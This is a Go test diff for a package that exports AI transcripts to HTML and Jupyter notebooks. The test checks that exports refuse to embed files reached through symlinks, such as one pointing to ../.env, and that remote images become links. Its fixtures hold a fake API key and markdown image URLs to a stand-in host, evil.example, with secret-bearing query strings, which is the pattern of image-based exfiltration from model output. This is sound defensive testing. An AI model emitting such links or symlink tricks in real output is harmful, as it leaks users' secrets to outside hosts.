@@ -2,6 +2,7 @@ package notebook
 
 import (
 	"bytes"
+	"encoding/base64"
 	"encoding/json"
 	"os"
 	"path/filepath"
@@ -158,5 +159,59 @@ func TestFilesLine(t *testing.T) {
 	}
 	if filesLine(nil) != "" {
 		t.Error("a line for no files")
+	}
+}
+
+// Exports load nothing remote and embed only images of the workspace
+// reached without following a link: sandboxed code that links
+// images/x.svg to ../.env and prints ![image](images/x.svg) embeds
+// nothing, nor does a path outside the workspace or a folder swapped for
+// a link; a remote image in an answer becomes a link.
+func TestExportEmbedsOnlyWorkspaceImages(t *testing.T) {
+	base := t.TempDir()
+	ws := filepath.Join(base, "ws")
+	secret := "KEY=sk-export-secret"
+	for name, data := range map[string]string{"ws/.env": secret, "ws/images/ok.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>", "outside/o.png": secret, "ws/real/p.png": secret} {
+		p := filepath.Join(base, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for link, target := range map[string]string{"ws/images/x.svg": "../.env", "ws/dirlink": "real", "ws/images/out.png": "../../outside/o.png"} {
+		if err := os.Symlink(target, filepath.Join(base, link)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	out := "![image](images/x.svg)\n![image](dirlink/p.png)\n![image](images/out.png)\n![image](../outside/o.png)\n![image](" + filepath.Join(base, "outside", "o.png") + ")\n![image](images/ok.svg)\n"
+	tr := &Transcript{Dir: ws, Entries: []Entry{
+		{Kind: KindAnswer, Text: "See ![leak](http://evil.example/x?secret=s) and ![p](//evil.example/y)"},
+		{Kind: KindThought, Text: "![t](https://evil.example/t)"},
+		{Kind: KindCode, Code: "show()", Output: out},
+	}}
+	page, err := tr.HTML(Options{Thoughts: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw, err := tr.Notebook(Options{Thoughts: true}).Marshal()
+	if err != nil {
+		t.Fatal(err)
+	}
+	enc := base64.StdEncoding.EncodeToString([]byte(secret))
+	for name, doc := range map[string]string{"html": page, "ipynb": string(raw)} {
+		if strings.Contains(doc, secret) || strings.Contains(doc, enc) {
+			t.Errorf("the %s export embeds a file reached through a link or outside the workspace", name)
+		}
+		if !strings.Contains(doc, base64.StdEncoding.EncodeToString([]byte("<svg xmlns='http://www.w3.org/2000/svg'/>"))) && !strings.Contains(doc, "<svg xmlns=") {
+			t.Errorf("the %s export lacks the workspace's own image", name)
+		}
+	}
+	if strings.Contains(page, `<img alt="leak"`) || strings.Contains(page, `src="http`) || strings.Contains(page, `src="//`) {
+		t.Errorf("the HTML export loads a remote image:\n%s", page)
+	}
+	if !strings.Contains(page, `<a href="http://evil.example/x?secret=s">image: leak</a>`) || !strings.Contains(page, "default-src 'none'") {
+		t.Errorf("the remote image is not a link, or the page has no policy:\n%s", page)
 	}
 }
